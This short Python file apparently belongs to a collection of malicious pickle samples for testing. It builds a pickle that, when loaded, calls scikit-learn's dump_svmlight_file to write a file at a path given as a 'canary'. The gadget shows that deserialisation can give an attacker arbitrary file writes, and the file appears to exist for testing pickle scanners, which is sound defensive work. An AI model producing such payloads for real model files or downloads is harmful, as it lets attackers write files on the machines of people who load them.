"""Scikit-learn writes any file."""

from __future__ import annotations

from malicious_samples.recipes import pickled_call


def build(canary: str) -> bytes:
    return pickled_call("sklearn.datasets", "dump_svmlight_file", [[1.0]], [1.0], canary)
